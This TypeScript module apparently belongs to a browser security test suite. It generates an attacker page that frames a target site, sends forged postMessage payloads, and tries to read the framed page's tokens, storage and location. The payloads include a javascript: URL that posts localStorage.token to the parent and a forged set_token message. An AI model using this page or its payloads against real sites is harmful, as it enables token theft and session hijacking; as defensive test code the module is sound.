/** What the attacker says to itself, so that who waits for it knows that nothing else came before. */
export const sentinel = 'the last word';

/** Messages that a careless page would take for its own, its parent's, or its opener's. */
const forgedMessages = [
  { type: 'app_changed_url', url: 'http://127.0.0.1/' },
  { type: 'app_error', error: {} },
  { type: 'set_token', access_token: 'foreign-token', token: 'foreign-token' },
  { type: 'navigate', url: 'javascript:parent.postMessage(localStorage.token, "*")' },
  'access_token',
  '{"type":"logout"}',
  null,
];

/** Runs in the attacker's page. Keeps to what a browser lets a foreign page try. */
function attack(tellPath: string, lies: readonly unknown[], lastWord: string): void {
  function tell(kind: string, what: unknown): void {
    void fetch(tellPath, { method: 'POST', keepalive: true, body: JSON.stringify({ kind, what }) });
  }
  const others: Window[] = [];

  /** Everything of another page that could hold something, one after the other. */
  function read(other: Window): void {
    const tries = [
      () => other.location.href,
      () => other.document.body.innerText,
      () => other.localStorage.getItem('token'),
      () => other.name,
      () => other.history.state,
      () => Reflect.get(other, 'brazos_arrival'),
      () => other.sessionStorage.getItem('brazos_nonce'),
      () => other.location.ancestorOrigins,
    ];
    for (const attempt of tries) {
      try {
        tell('read', String(attempt()));
      } catch {
        // So it should be.
      }
    }
  }

  function trouble(): void {
    for (const other of others) {
      for (const lie of lies) other.postMessage(lie, '*');
      try {
        Reflect.set(other, 'opener', window);
        Reflect.set(other, 'brazos_arrival', 'access_token=foreign-token');
      } catch {
        // So it should be.
      }
      read(other);
    }
  }

  addEventListener('message', ({ origin, data }) => tell('message', { origin, data }));
  for (const frame of document.querySelectorAll('iframe')) {
    if (frame.contentWindow !== null) others.push(frame.contentWindow);
    frame.addEventListener('load', trouble);
  }
  const on = (name: string, pressed: () => void) =>
    document.querySelector(`button[name=${name}]`)?.addEventListener('click', pressed);
  const address = () => document.querySelector('input')?.value ?? '';
  on('open', () => {
    const opened = window.open(address(), 'named-by-the-attacker');
    if (opened !== null) others.push(opened);
  });
  on('navigate', () => {
    for (const other of others) other.location = address();
  });
  on('trouble', trouble);
  on('end', () => window.postMessage(lastWord, '*'));
}

/** A page that frames these addresses, and has buttons for the rest of what it can do. */
export function attackerPage(frames: readonly string[], tellPath: string): string {
  const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  // All in view at once: the site's scripts begin after its first paint, and what is out of view paints nothing.
  const size = frames.length > 1 ? 'width="300" height="200"' : 'width="900" height="500"';
  const framed = frames.map(
    (src, at) => `<iframe title="Site ${at}" name="named" src="${quoted(src)}" ${size}></iframe>`,
  );
  const given = [tellPath, forgedMessages, sentinel].map((each) => JSON.stringify(each)).join(', ');
  return `<!doctype html><title>Attacker</title><h1>You have won</h1>
<label>Address <input></label>
${['open', 'navigate', 'trouble', 'end'].map((name) => `<button name="${name}">${name}</button>`).join('')}
${framed.join('\n')}
<script>(${attack})(${given})</script>`;
}
